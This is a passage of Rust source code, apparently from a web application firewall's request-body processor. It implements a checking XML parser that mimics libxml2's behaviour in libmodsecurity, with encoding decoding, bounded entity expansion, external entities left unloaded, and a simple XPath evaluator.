//! XML request bodies: a small, tolerant-but-checking XML 1.0 tokenizer that
//! rejects what libxml2 (as used by libmodsecurity, without `XML_PARSE_RECOVER`,
//! entity substitution or external DTD loading) reports as not well-formed,
//! and records what `XML:/*` and `XML://@*` evaluate to:
//!
//! * `XML:/*` is the root element; libmodsecurity returns
//!   `xmlNodeGetContent()` of it: the concatenation, in document order, of all
//!   text and CDATA inside it (character and predefined entity references
//!   decoded, internal DTD entities expanded, comments and PIs omitted). So
//!   [`XmlDoc::text`] holds exactly one value.
//! * `XML://@*` is every attribute in the document: [`XmlDoc::attributes`]
//!   holds their values in document order (namespace declarations `xmlns`,
//!   `xmlns:p` are not attributes for libxml2 and are left out). Values are
//!   normalized like libxml2 does (literal tab/newline → space).
//!
//! The input is decoded first (BOM / UTF-16 / declared ISO-8859-1,
//! ISO-8859-15, windows-1252, US-ASCII, UTF-8), line ends are normalized
//! (`\r\n`, `\r` → `\n`), and invalid UTF-8 or non-XML characters are fatal,
//! as in libxml2. On any fatal error parsing stops; what was parsed so far is
//! kept (libxml2's push parser keeps the partial tree and libmodsecurity
//! still evaluates XPath on it), and `REQBODY_ERROR_MSG` is
//! `XML parsing error: XML: Failed parsing document.` (libmodsecurity's
//! fixed message). An empty body is not parsed and is not an error.
//!
//! Entity expansion is bounded (nesting depth, loops, and total expanded
//! size at most max(10 × input, 1 MiB)), like libxml2's amplification checks.
//!
//! A *partial* body (the first bytes of a longer one, cut at a limit) is not
//! malformed for ending inside an element, a tag, an attribute, a comment or
//! a character: a fatal error found only by running out of input (the
//! parser looked past the end) is not reported for it.

use std::cell::Cell;
use std::collections::{HashMap, HashSet};
use std::rc::Rc;

use super::{ParsedBody, XML_MAX_DEPTH};

const ERROR_MSG: &str = "XML parsing error: XML: Failed parsing document.";
const MAX_ENTITY_NESTING: usize = 40;

/// One element of the parsed tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct XmlElement {
    /// The qualified name as written (`soap:Envelope`).
    pub name: Vec<u8>,
    /// Index of the parent element; `None` for the root.
    pub parent: Option<usize>,
    /// The element's text content is `text[0][text_start..text_end]`.
    pub text_start: usize,
    pub text_end: usize,
}

/// What the XML processor extracted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct XmlDoc {
    /// `XML:/*`: a single value, the text content of the root element.
    pub text: Vec<Vec<u8>>,
    /// `XML://@*`: every attribute value, in document order.
    pub attributes: Vec<Vec<u8>>,
    /// Elements in document order (`elements[0]` is the root).
    pub elements: Vec<XmlElement>,
    /// (owner element, qualified name) of each entry of `attributes`.
    pub attribute_names: Vec<(usize, Vec<u8>)>,
    /// Text / CDATA nodes: (parent element, start, end) into `text[0]`.
    pub text_nodes: Vec<(usize, usize, usize)>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Axis {
    Child,
    Descendant,
}

#[derive(Clone, PartialEq, Eq)]
enum Test {
    Element(Option<Vec<u8>>),
    Attribute(Option<Vec<u8>>),
    Text,
}

impl XmlDoc {
    /// The root element's text content (`XML:/*`), if there is a root.
    pub fn root_content(&self) -> Option<&[u8]> {
        self.text.first().map(|v| v.as_slice())
    }

    fn content(&self) -> &[u8] {
        self.text.first().map(|v| v.as_slice()).unwrap_or(b"")
    }

    /// Values of the text and CDATA nodes, in document order.
    pub fn text_node_values(&self) -> impl Iterator<Item = &[u8]> + '_ {
        let c = self.content();
        self.text_nodes
            .iter()
            .map(move |&(_, s, e)| c.get(s..e).unwrap_or(b""))
    }

    /// Evaluates a simple XPath: absolute location paths made of `/` and
    /// `//` steps whose node test is a name (as written, prefixes compared
    /// literally), `*`, `@name`, `@*` or `text()` (attribute and `text()`
    /// steps last), plus `/`. Elements evaluate to their text content.
    /// Returns `None` for anything else (predicates, functions, other axes).
    pub fn eval_xpath(&self, expr: &str) -> Option<Vec<&[u8]>> {
        let steps = parse_xpath(expr.trim())?;
        let c = self.content();
        let elem_val = |e: &XmlElement| c.get(e.text_start..e.text_end).unwrap_or(b"");
        if steps.is_empty() {
            return Some(if self.elements.is_empty() {
                Vec::new()
            } else {
                vec![c]
            });
        }
        let n = self.elements.len();
        // Context: the document node plus a set of elements.
        let mut doc_ctx = true;
        let mut ctx = vec![false; n];
        for (k, (axis, test)) in steps.iter().enumerate() {
            let last = k + 1 == steps.len();
            // in_scope[e]: e is a child (Child) or descendant (Descendant) of
            // a context node.
            let mut in_scope = vec![false; n];
            let mut below = vec![false; n];
            for (i, e) in self.elements.iter().enumerate() {
                let parent_ctx = match e.parent {
                    None => doc_ctx,
                    Some(p) => ctx.get(p).copied().unwrap_or(false),
                };
                let parent_below = e
                    .parent
                    .and_then(|p| below.get(p).copied())
                    .unwrap_or(false);
                below[i] = parent_ctx || parent_below;
                in_scope[i] = match axis {
                    Axis::Child => parent_ctx,
                    Axis::Descendant => below[i],
                };
            }
            match test {
                Test::Element(name) => {
                    let next: Vec<bool> = self
                        .elements
                        .iter()
                        .enumerate()
                        .map(|(i, e)| in_scope[i] && name.as_ref().is_none_or(|nm| *nm == e.name))
                        .collect();
                    ctx = next;
                    doc_ctx = false;
                }
                Test::Attribute(_) | Test::Text if !last => return None,
                Test::Attribute(name) => {
                    let owner_ok = |el: usize| match axis {
                        Axis::Child => ctx.get(el).copied().unwrap_or(false),
                        Axis::Descendant => {
                            doc_ctx
                                || ctx.get(el).copied().unwrap_or(false)
                                || below.get(el).copied().unwrap_or(false)
                        }
                    };
                    return Some(
                        self.attribute_names
                            .iter()
                            .zip(&self.attributes)
                            .filter(|((el, an), _)| {
                                owner_ok(*el) && name.as_ref().is_none_or(|nm| nm == an)
                            })
                            .map(|(_, v)| v.as_slice())
                            .collect(),
                    );
                }
                Test::Text => {
                    let owner_ok = |el: usize| match axis {
                        Axis::Child => ctx.get(el).copied().unwrap_or(false),
                        Axis::Descendant => {
                            doc_ctx
                                || ctx.get(el).copied().unwrap_or(false)
                                || below.get(el).copied().unwrap_or(false)
                        }
                    };
                    return Some(
                        self.text_nodes
                            .iter()
                            .filter(|(el, _, _)| owner_ok(*el))
                            .map(|&(_, s, e)| c.get(s..e).unwrap_or(b""))
                            .collect(),
                    );
                }
            }
        }
        Some(
            self.elements
                .iter()
                .enumerate()
                .filter(|(i, _)| ctx[*i])
                .map(|(_, e)| elem_val(e))
                .collect(),
        )
    }
}

fn parse_xpath(expr: &str) -> Option<Vec<(Axis, Test)>> {
    let b = expr.as_bytes();
    if b.first() != Some(&b'/') {
        return None;
    }
    if b == b"/" {
        return Some(Vec::new());
    }
    let mut steps = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'/' {
            return None;
        }
        let axis = if b.get(i + 1) == Some(&b'/') {
            i += 2;
            Axis::Descendant
        } else {
            i += 1;
            Axis::Child
        };
        let start = i;
        while i < b.len() && b[i] != b'/' {
            i += 1;
        }
        let step = &b[start..i];
        let test = match step {
            b"*" => Test::Element(None),
            b"@*" => Test::Attribute(None),
            b"text()" => Test::Text,
            _ if step.first() == Some(&b'@')
                && step.len() > 1
                && step[1..].iter().all(|&c| is_name_char(c)) =>
            {
                Test::Attribute(Some(step[1..].to_vec()))
            }
            _ if !step.is_empty()
                && is_name_start(step[0])
                && step.iter().all(|&c| is_name_char(c)) =>
            {
                Test::Element(Some(step.to_vec()))
            }
            _ => return None,
        };
        steps.push((axis, test));
    }
    Some(steps)
}

/// Runs the XML processor; `partial`: `body` is a prefix of the real body.
pub(crate) fn parse(body: &[u8], out: &mut ParsedBody, partial: bool) {
    if body.is_empty() {
        return;
    }
    let (doc, ok) = parse_document_partial(body, partial);
    out.xml = doc;
    if !ok {
        out.error = Some(ERROR_MSG.to_string());
    }
}

/// Parses a document; returns the (possibly partial) tree and whether the
/// document was well-formed.
pub fn parse_document(body: &[u8]) -> (Option<XmlDoc>, bool) {
    parse_document_partial(body, false)
}

/// [`parse_document`]; with `partial`, running out of input is not an error.
pub fn parse_document_partial(body: &[u8], partial: bool) -> (Option<XmlDoc>, bool) {
    let (text, mut ok) = match decode(body, partial) {
        Some(v) => v,
        None => return (None, false),
    };
    let norm = normalize(&text);
    // Characters that are not XML Chars are fatal where they occur.
    let valid_len = first_invalid_char(&norm);
    if valid_len < norm.len() {
        ok = false;
    }
    let mut p = Parser {
        s: &norm[..valid_len],
        i: 0,
        doc: XmlDoc::default(),
        content: Vec::new(),
        entities: HashMap::new(),
        has_external_subset: false,
        has_pe_refs: false,
        standalone: false,
        budget: body.len().saturating_mul(10).max(1 << 20),
        open_text: None,
        expanding: Vec::new(),
        eof: Cell::new(false),
    };
    if p.document().is_err() && !(partial && p.eof.get()) {
        ok = false;
    }
    let (doc, started) = p.finish();
    (if started { Some(doc) } else { None }, ok)
}

/// Decodes the input to UTF-8. Returns `None` for an unsupported encoding;
/// the flag is false when decoding stopped at an invalid sequence.
/// With `partial`, a character cut by the end of the input is left out
/// without making the decoding fail.
fn decode(b: &[u8], partial: bool) -> Option<(Vec<u8>, bool)> {
    if b.starts_with(&[0xFF, 0xFE]) || b.starts_with(&[b'<', 0, b'?', 0]) {
        let start = if b[0] == 0xFF { 2 } else { 0 };
        return Some(decode_utf16(&b[start..], false, partial));
    }
    if b.starts_with(&[0xFE, 0xFF]) || b.starts_with(&[0, b'<', 0, b'?']) {
        let start = if b[0] == 0xFE { 2 } else { 0 };
        return Some(decode_utf16(&b[start..], true, partial));
    }
    let b = b.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(b);
    let enc = declared_encoding(b).map(|e| e.to_ascii_lowercase());
    match enc.as_deref() {
        None | Some(b"utf-8") | Some(b"utf8") => match std::str::from_utf8(b) {
            Ok(_) => Some((b.to_vec(), true)),
            // `error_len() == None`: a sequence cut by the end of the input.
            Err(e) => Some((
                b[..e.valid_up_to()].to_vec(),
                partial && e.error_len().is_none(),
            )),
        },
        Some(b"iso-8859-1") | Some(b"iso8859-1") | Some(b"iso_8859-1") | Some(b"latin1")
        | Some(b"latin-1") | Some(b"l1") => Some((from_single_byte(b, |c| c as u32), true)),
        Some(b"iso-8859-15") | Some(b"iso8859-15") | Some(b"latin-9") | Some(b"latin9") => {
            Some((from_single_byte(b, latin9), true))
        }
        Some(b"windows-1252") | Some(b"cp1252") => Some((from_single_byte(b, cp1252), true)),
        Some(b"us-ascii") | Some(b"ascii") => match b.iter().position(|&c| c >= 0x80) {
            None => Some((b.to_vec(), true)),
            Some(i) => Some((b[..i].to_vec(), false)),
        },
        // UTF-16 declared without a BOM in an 8-bit looking stream, or an
        // encoding we cannot decode: libxml2 fails (or decodes something we
        // cannot inspect); report the document as malformed.
        _ => None,
    }
}

fn decode_utf16(b: &[u8], be: bool, partial: bool) -> (Vec<u8>, bool) {
    let units = b.chunks_exact(2).map(|c| {
        if be {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from_le_bytes([c[0], c[1]])
        }
    });
    let n_units = b.len() / 2;
    let mut out = String::with_capacity(n_units);
    let mut seen = 0usize;
    for r in char::decode_utf16(units) {
        match r {
            Ok(c) => {
                seen += c.len_utf16();
                out.push(c);
            }
            Err(e) => {
                // A high surrogate in the last unit was cut from its pair.
                let cut = partial
                    && seen + 1 == n_units
                    && (0xD800..0xDC00).contains(&e.unpaired_surrogate());
                return (out.into_bytes(), cut);
            }
        }
    }
    (out.into_bytes(), b.len() & 1 == 0 || partial)
}

fn from_single_byte(b: &[u8], map: fn(u8) -> u32) -> Vec<u8> {
    let mut s = String::with_capacity(b.len());
    for &c in b {
        s.push(char::from_u32(map(c)).unwrap_or('\u{FFFD}'));
    }
    s.into_bytes()
}

fn latin9(c: u8) -> u32 {
    match c {
        0xA4 => 0x20AC,
        0xA6 => 0x160,
        0xA8 => 0x161,
        0xB4 => 0x17D,
        0xB8 => 0x17E,
        0xBC => 0x152,
        0xBD => 0x153,
        0xBE => 0x178,
        _ => c as u32,
    }
}

fn cp1252(c: u8) -> u32 {
    const HIGH: [u16; 32] = [
        0x20AC, 0x81, 0x201A, 0x192, 0x201E, 0x2026, 0x2020, 0x2021, 0x2C6, 0x2030, 0x160, 0x2039,
        0x152, 0x8D, 0x17D, 0x8F, 0x90, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
        0x2DC, 0x2122, 0x161, 0x203A, 0x153, 0x9D, 0x17E, 0x178,
    ];
    if (0x80..0xA0).contains(&c) {
        HIGH[(c - 0x80) as usize] as u32
    } else {
        c as u32
    }
}

/// The `encoding` pseudo-attribute of a leading XML declaration.
fn declared_encoding(b: &[u8]) -> Option<&[u8]> {
    if !b.starts_with(b"<?xml") || !b.get(5).is_some_and(|&c| is_ws(c) || c == b'\r') {
        return None;
    }
    let head = &b[..b.len().min(1024)];
    let end = memchr::memmem::find(head, b"?>")?;
    let decl = &head[..end];
    let pos = memchr::memmem::find(decl, b"encoding")?;
    let mut i = pos + 8;
    while i < decl.len() && (is_ws(decl[i]) || decl[i] == b'\r') {
        i += 1;
    }
    if decl.get(i) != Some(&b'=') {
        return None;
    }
    i += 1;
    while i < decl.len() && (is_ws(decl[i]) || decl[i] == b'\r') {
        i += 1;
    }
    let q = *decl.get(i)?;
    if q != b'"' && q != b'\'' {
        return None;
    }
    let rest = &decl[i + 1..];
    let e = memchr::memchr(q, rest)?;
    Some(&rest[..e])
}

/// `\r\n` and lone `\r` → `\n`.
fn normalize(b: &[u8]) -> Vec<u8> {
    if memchr::memchr(b'\r', b).is_none() {
        return b.to_vec();
    }
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\r' {
            out.push(b'\n');
            if b.get(i + 1) == Some(&b'\n') {
                i += 1;
            }
        } else {
            out.push(b[i]);
        }
        i += 1;
    }
    out
}

/// Length of the prefix made of XML Chars (the input is valid UTF-8).
fn first_invalid_char(b: &[u8]) -> usize {
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c < 0x20 && c != b'\t' && c != b'\n' && c != b'\r' {
            return i;
        }
        // U+FFFE / U+FFFF
        if c == 0xEF
            && b.get(i + 1) == Some(&0xBF)
            && matches!(b.get(i + 2), Some(0xBE) | Some(0xBF))
        {
            return i;
        }
        i += 1;
    }
    b.len()
}

fn is_ws(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n')
}

fn is_name_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b':' || c >= 0x80
}

fn is_name_char(c: u8) -> bool {
    is_name_start(c) || c.is_ascii_digit() || c == b'-' || c == b'.'
}

fn is_xml_char(cp: u32) -> bool {
    matches!(cp, 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x10000..=0x10FFFF)
}

#[derive(Clone)]
enum Entity {
    /// Replacement text (character references already substituted).
    Internal(Rc<[u8]>),
    External,
}

/// A fatal (well-formedness) error.
struct Fatal;
type R<T> = Result<T, Fatal>;

struct Parser<'a> {
    s: &'a [u8],
    i: usize,
    doc: XmlDoc,
    content: Vec<u8>,
    entities: HashMap<Vec<u8>, Entity>,
    has_external_subset: bool,
    has_pe_refs: bool,
    standalone: bool,
    /// Bytes that entity expansion may still produce.
    budget: usize,
    /// Start of the text node being built, and its parent element.
    open_text: Option<(usize, usize)>,
    /// Entities being expanded (loop detection).
    expanding: Vec<Vec<u8>>,
    /// The parser needed input past the end (a cut document fails so).
    eof: Cell<bool>,
}

impl<'a> Parser<'a> {
    fn finish(mut self) -> (XmlDoc, bool) {
        self.close_text();
        let end = self.content.len();
        for e in self.doc.elements.iter_mut() {
            if e.text_end < e.text_start {
                e.text_end = end;
            }
        }
        let started = !self.doc.elements.is_empty();
        if started {
            self.doc.text = vec![self.content];
        }
        (self.doc, started)
    }

    fn starts_with(&self, p: &[u8]) -> bool {
        let rest = self.s.get(self.i..).unwrap_or_default();
        if rest.len() < p.len() && p.starts_with(rest) {
            self.eof.set(true);
        }
        rest.starts_with(p)
    }

    fn peek(&self) -> Option<u8> {
        let c = self.s.get(self.i).copied();
        if c.is_none() {
            self.eof.set(true);
        }
        c
    }

    /// `None` from a search that reached the end of the input.
    fn at_end<T>(&self, found: Option<T>) -> R<T> {
        found.ok_or_else(|| {
            self.eof.set(true);
            Fatal
        })
    }

    /// Whitespace that must be there (at the end of the input it may be
    /// what comes next).
    fn require_ws(&mut self) -> R<()> {
        if self.skip_ws() {
            Ok(())
        } else {
            self.peek();
            Err(Fatal)
        }
    }

    fn skip_ws(&mut self) -> bool {
        let st = self.i;
        while self.i < self.s.len() && is_ws(self.s[self.i]) {
            self.i += 1;
        }
        self.i > st
    }

    fn expect(&mut self, p: &[u8]) -> R<()> {
        if self.starts_with(p) {
            self.i += p.len();
            Ok(())
        } else {
            Err(Fatal)
        }
    }

    fn name(&mut self) -> R<&'a [u8]> {
        let s: &'a [u8] = self.s;
        let st = self.i;
        if !is_name_start(*self.at_end(s.get(st))?) {
            return Err(Fatal);
        }
        let mut i = st + 1;
        while i < s.len() && is_name_char(s[i]) {
            i += 1;
        }
        self.i = i;
        Ok(&s[st..i])
    }

    fn quoted(&mut self) -> R<&'a [u8]> {
        let s: &'a [u8] = self.s;
        let q = self.peek().ok_or(Fatal)?;
        if q != b'"' && q != b'\'' {
            return Err(Fatal);
        }
        let rest = &s[self.i + 1..];
        let e = self.at_end(memchr::memchr(q, rest))?;
        self.i += e + 2;
        Ok(&rest[..e])
    }

    fn document(&mut self) -> R<()> {
        if self.starts_with(b"<?xml") && self.s.get(5).is_some_and(|&c| is_ws(c)) {
            self.xml_decl()?;
        }
        self.misc()?;
        if self.starts_with(b"<!DOCTYPE") {
            self.doctype()?;
            self.misc()?;
        }
        if self.peek() != Some(b'<') {
            // Empty document / start tag expected.
            return Err(Fatal);
        }
        self.element_tree()?;
        self.misc()?;
        if self.i < self.s.len() {
            // Extra content at the end of the document.
            return Err(Fatal);
        }
        Ok(())
    }

    fn xml_decl(&mut self) -> R<()> {
        self.i += 5;
        self.skip_ws();
        self.expect(b"version")?;
        self.eq()?;
        let v = self.quoted()?;
        if !(v.len() >= 3 && v.starts_with(b"1.") && v[2..].iter().all(|c| c.is_ascii_digit())) {
            return Err(Fatal);
        }
        let ws = self.skip_ws();
        if ws && self.starts_with(b"encoding") {
            self.i += 8;
            self.eq()?;
            let e = self.quoted()?;
            if !(e.first().is_some_and(|c| c.is_ascii_alphabetic())
                && e.iter()
                    .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-')))
            {
                return Err(Fatal);
            }
            self.skip_ws();
        }
        if self.starts_with(b"standalone") {
            if !is_ws(self.s[self.i - 1]) {
                return Err(Fatal);
            }
            self.i += 10;
            self.eq()?;
            match self.quoted()? {
                b"yes" => self.standalone = true,
                b"no" => {}
                _ => return Err(Fatal),
            }
            self.skip_ws();
        }
        self.expect(b"?>")
    }

    fn eq(&mut self) -> R<()> {
        self.skip_ws();
        self.expect(b"=")?;
        self.skip_ws();
        Ok(())
    }

    fn misc(&mut self) -> R<()> {
        loop {
            self.skip_ws();
            if self.starts_with(b"<!--") {
                self.comment()?;
            } else if self.starts_with(b"<?") {
                self.pi()?;
            } else {
                return Ok(());
            }
        }
    }

    fn comment(&mut self) -> R<()> {
        self.i += 4;
        let rest = &self.s[self.i..];
        let dd = self.at_end(memchr::memmem::find(rest, b"--"))?;
        if self.at_end(rest.get(dd + 2))? != &b'>' {
            // "--" inside a comment.
            return Err(Fatal);
        }
        self.i += dd + 3;
        Ok(())
    }

    fn pi(&mut self) -> R<()> {
        self.i += 2;
        let target = self.name()?;
        if target.eq_ignore_ascii_case(b"xml") {
            // XML declaration allowed only at the start / reserved target.
            return Err(Fatal);
        }
        if self.starts_with(b"?>") {
            self.i += 2;
            return Ok(());
        }
        self.require_ws()?;
        let e = self.at_end(memchr::memmem::find(&self.s[self.i..], b"?>"))?;
        self.i += e + 2;
        Ok(())
    }

    fn external_id(&mut self) -> R<bool> {
        if self.starts_with(b"SYSTEM") {
            self.i += 6;
            self.require_ws()?;
            self.quoted()?;
            Ok(true)
        } else if self.starts_with(b"PUBLIC") {
            self.i += 6;
            self.require_ws()?;
            self.quoted()?;
            self.require_ws()?;
            self.quoted()?;
            Ok(true)
        } else {
            Ok(false)
        }
    }

    fn doctype(&mut self) -> R<()> {
        self.i += 9;
        self.require_ws()?;
        self.name()?;
        let ws = self.skip_ws();
        if ws && self.external_id()? {
            self.has_external_subset = true;
            self.skip_ws();
        }
        if self.peek() == Some(b'[') {
            self.i += 1;
            self.internal_subset()?;
            self.skip_ws();
        }
        self.expect(b">")
    }

    fn internal_subset(&mut self) -> R<()> {
        loop {
            self.skip_ws();
            let Some(c) = self.peek() else {
                return Err(Fatal);
            };
            if c == b']' {
                self.i += 1;
                return Ok(());
            }
            if self.starts_with(b"<!ENTITY") {
                self.entity_decl()?;
            } else if self.starts_with(b"<!ELEMENT")
                || self.starts_with(b"<!ATTLIST")
                || self.starts_with(b"<!NOTATION")
            {
                self.skip_decl()?;
            } else if self.starts_with(b"<!--") {
                self.comment()?;
            } else if self.starts_with(b"<?") {
                self.pi()?;
            } else if c == b'%' {
                self.i += 1;
                self.name()?;
                self.expect(b";")?;
                self.has_pe_refs = true;
            } else {
                return Err(Fatal);
            }
        }
    }

    /// Skips a markup declaration up to its `>`, honouring quoted strings.
    fn skip_decl(&mut self) -> R<()> {
        while let Some(c) = self.peek() {
            match c {
                b'"' | b'\'' => {
                    self.quoted()?;
                }
                b'>' => {
                    self.i += 1;
                    return Ok(());
                }
                _ => self.i += 1,
            }
        }
        Err(Fatal)
    }

    fn entity_decl(&mut self) -> R<()> {
        self.i += 8;
        self.require_ws()?;
        let mut pe = false;
        if self.peek() == Some(b'%') {
            self.i += 1;
            self.require_ws()?;
            pe = true;
        }
        let name = self.name()?.to_vec();
        self.require_ws()?;
        let entity = if matches!(self.peek(), Some(b'"') | Some(b'\'')) {
            let raw = self.quoted()?;
            Entity::Internal(Rc::from(self.entity_value(raw)?))
        } else if self.external_id()? {
            let ws = self.skip_ws();
            if ws && self.starts_with(b"NDATA") {
                if pe {
                    return Err(Fatal);
                }
                self.i += 5;
                self.require_ws()?;
                self.name()?;
            }
            Entity::External
        } else {
            return Err(Fatal);
        };
        self.skip_ws();
        self.expect(b">")?;
        if !pe {
            self.entities.entry(name).or_insert(entity);
        }
        Ok(())
    }

    /// An entity literal: character references are substituted now, general
    /// entity references are kept for expansion at use, parameter entity
    /// references are not allowed in the internal subset.
    fn entity_value(&mut self, raw: &[u8]) -> R<Vec<u8>> {
        let mut out = Vec::with_capacity(raw.len());
        let mut i = 0;
        while i < raw.len() {
            match raw[i] {
                b'%' => return Err(Fatal),
                b'&' => {
                    let semi = memchr::memchr(b';', &raw[i..]).ok_or(Fatal)? + i;
                    let r = &raw[i + 1..semi];
                    if let Some(num) = r.strip_prefix(b"#") {
                        push_char(&mut out, char_ref(num)?);
                    } else {
                        if r.is_empty()
                            || !is_name_start(r[0])
                            || !r.iter().all(|&c| is_name_char(c))
                        {
                            return Err(Fatal);
                        }
                        out.extend_from_slice(&raw[i..=semi]);
                    }
                    i = semi + 1;
                }
                c => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        Ok(out)
    }

    fn close_text(&mut self) {
        if let Some((start, parent)) = self.open_text.take() {
            if self.content.len() > start {
                self.doc
                    .text_nodes
                    .push((parent, start, self.content.len()));
            }
        }
    }

    fn open_text(&mut self, parent: usize) {
        if self.open_text.is_none() {
            self.open_text = Some((self.content.len(), parent));
        }
    }

    /// The root element and everything inside it, without recursion.
    fn element_tree(&mut self) -> R<()> {
        let mut stack: Vec<(&'a [u8], usize)> = Vec::new();
        loop {
            // At a '<' that starts an element.
            self.i += 1;
            let name = self.name()?;
            let idx = self.doc.elements.len();
            if stack.len() >= XML_MAX_DEPTH {
                // Excessive depth in document.
                return Err(Fatal);
            }
            self.close_text();
            self.doc.elements.push(XmlElement {
                name: name.to_vec(),
                parent: stack.last().map(|&(_, i)| i),
                text_start: self.content.len(),
                text_end: 0,
            });
            let empty = self.attributes(idx)?;
            if empty {
                self.doc.elements[idx].text_end = self.content.len();
                if stack.is_empty() {
                    return Ok(());
                }
            } else {
                stack.push((name, idx));
            }
            // Content until the next start tag (or the end of the root).
            loop {
                let Some(&(_, cur)) = stack.last() else {
                    return Ok(());
                };
                let Some(c) = self.peek() else {
                    // Premature end of data.
                    return Err(Fatal);
                };
                if c == b'<' {
                    if self.starts_with(b"</") {
                        self.close_text();
                        self.i += 2;
                        let n = self.name()?;
                        self.skip_ws();
                        self.expect(b">")?;
                        let Some((open, oi)) = stack.pop() else {
                            return Err(Fatal);
                        };
                        if n != open {
                            // Opening and ending tag mismatch.
                            return Err(Fatal);
                        }
                        self.doc.elements[oi].text_end = self.content.len();
                        if stack.is_empty() {
                            return Ok(());
                        }
                    } else if self.starts_with(b"<!--") {
                        self.close_text();
                        self.comment()?;
                    } else if self.starts_with(b"<![CDATA[") {
                        self.close_text();
                        self.i += 9;
                        let e = self.at_end(memchr::memmem::find(&self.s[self.i..], b"]]>"))?;
                        let start = self.content.len();
                        self.content.extend_from_slice(&self.s[self.i..self.i + e]);
                        if e > 0 {
                            self.doc.text_nodes.push((cur, start, self.content.len()));
                        }
                        self.i += e + 3;
                    } else if self.starts_with(b"<?") {
                        self.close_text();
                        self.pi()?;
                    } else if self.starts_with(b"<!") {
                        return Err(Fatal);
                    } else {
                        // A child element.
                        break;
                    }
                } else if c == b'&' {
                    self.open_text(cur);
                    let mut buf = std::mem::take(&mut self.content);
                    let r = self.reference(&mut buf, false);
                    self.content = buf;
                    r?;
                } else {
                    self.open_text(cur);
                    let rest = &self.s[self.i..];
                    let end = memchr::memchr2(b'<', b'&', rest).unwrap_or(rest.len());
                    let text = &rest[..end];
                    if memchr::memmem::find(text, b"]]>").is_some() {
                        return Err(Fatal);
                    }
                    self.content.extend_from_slice(text);
                    self.i += end;
                }
            }
        }
    }

    /// Parses the attributes of a start tag; returns true for `/>`.
    fn attributes(&mut self, idx: usize) -> R<bool> {
        let mut seen: HashSet<&'a [u8]> = HashSet::new();
        loop {
            let ws = self.skip_ws();
            match self.peek() {
                None => return Err(Fatal),
                Some(b'>') => {
                    self.i += 1;
                    return Ok(false);
                }
                Some(b'/') => {
                    self.expect(b"/>")?;
                    return Ok(true);
                }
                Some(_) if !ws => return Err(Fatal),
                Some(_) => {}
            }
            let name = self.name()?;
            self.eq()?;
            let q = self.peek().ok_or(Fatal)?;
            if q != b'"' && q != b'\'' {
                return Err(Fatal);
            }
            self.i += 1;
            let mut value = Vec::new();
            loop {
                let c = self.peek().ok_or(Fatal)?;
                if c == q {
                    self.i += 1;
                    break;
                }
                match c {
                    b'<' => return Err(Fatal),
                    b'&' => self.reference(&mut value, true)?,
                    b'\t' | b'\n' => {
                        value.push(b' ');
                        self.i += 1;
                    }
                    _ => {
                        let rest = &self.s[self.i..];
                        let end = rest
                            .iter()
                            .position(|&x| x == q || matches!(x, b'<' | b'&' | b'\t' | b'\n'))
                            .unwrap_or(rest.len());
                        value.extend_from_slice(&rest[..end]);
                        self.i += end;
                    }
                }
            }
            if !seen.insert(name) {
                // Attribute redefined.
                return Err(Fatal);
            }
            if name == b"xmlns" || name.starts_with(b"xmlns:") {
                continue;
            }
            self.doc.attributes.push(value);
            self.doc.attribute_names.push((idx, name.to_vec()));
        }
    }

    /// Parses the reference at `self.i` (a `&`) and appends its value.
    fn reference(&mut self, out: &mut Vec<u8>, in_attr: bool) -> R<()> {
        let rest = &self.s[self.i + 1..];
        let semi = self.at_end(
            rest.iter()
                .position(|&c| c == b';' || c == b'<' || c == b'&' || is_ws(c)),
        )?;
        if rest[semi] != b';' {
            return Err(Fatal);
        }
        let r = &rest[..semi];
        self.i += semi + 2;
        if let Some(num) = r.strip_prefix(b"#") {
            push_char(out, char_ref(num)?);
            return Ok(());
        }
        self.named_ref(
            r,
            out,
            in_attr,
            self.has_external_subset || self.has_pe_refs,
        )
    }

    fn named_ref(&mut self, name: &[u8], out: &mut Vec<u8>, in_attr: bool, lenient: bool) -> R<()> {
        if name.is_empty() || !is_name_start(name[0]) || !name.iter().all(|&c| is_name_char(c)) {
            return Err(Fatal);
        }
        let predefined: Option<u8> = match name {
            b"lt" => Some(b'<'),
            b"gt" => Some(b'>'),
            b"amp" => Some(b'&'),
            b"apos" => Some(b'\''),
            b"quot" => Some(b'"'),
            _ => None,
        };
        if let Some(c) = predefined {
            out.push(c);
            return Ok(());
        }
        match self.entities.get(name).cloned() {
            Some(Entity::Internal(text)) => {
                if self.expanding.len() >= MAX_ENTITY_NESTING
                    || self.expanding.iter().any(|e| e == name)
                {
                    // Entity reference loop.
                    return Err(Fatal);
                }
                self.expanding.push(name.to_vec());
                let r = self.expand(&text, out, in_attr, lenient);
                self.expanding.pop();
                r
            }
            Some(Entity::External) => {
                if in_attr {
                    // Attribute references external entity.
                    Err(Fatal)
                } else {
                    // Not loaded (SecXmlExternalEntity Off): no content.
                    Ok(())
                }
            }
            None => {
                if lenient && !self.standalone {
                    Ok(())
                } else {
                    // Entity 'x' not defined.
                    Err(Fatal)
                }
            }
        }
    }

    fn expand(&mut self, text: &[u8], out: &mut Vec<u8>, in_attr: bool, lenient: bool) -> R<()> {
        // Charge the work, not only the output: entities that expand to
        // nothing can still be nested exponentially.
        self.charge(text.len())?;
        let mut i = 0;
        while i < text.len() {
            let c = text[i];
            if c == b'&' {
                let semi = memchr::memchr(b';', &text[i..]).ok_or(Fatal)? + i;
                let r = &text[i + 1..semi];
                if let Some(num) = r.strip_prefix(b"#") {
                    push_char(out, char_ref(num)?);
                } else {
                    self.named_ref(r, out, in_attr, lenient)?;
                }
                i = semi + 1;
                continue;
            }
            if in_attr && c == b'<' {
                return Err(Fatal);
            }
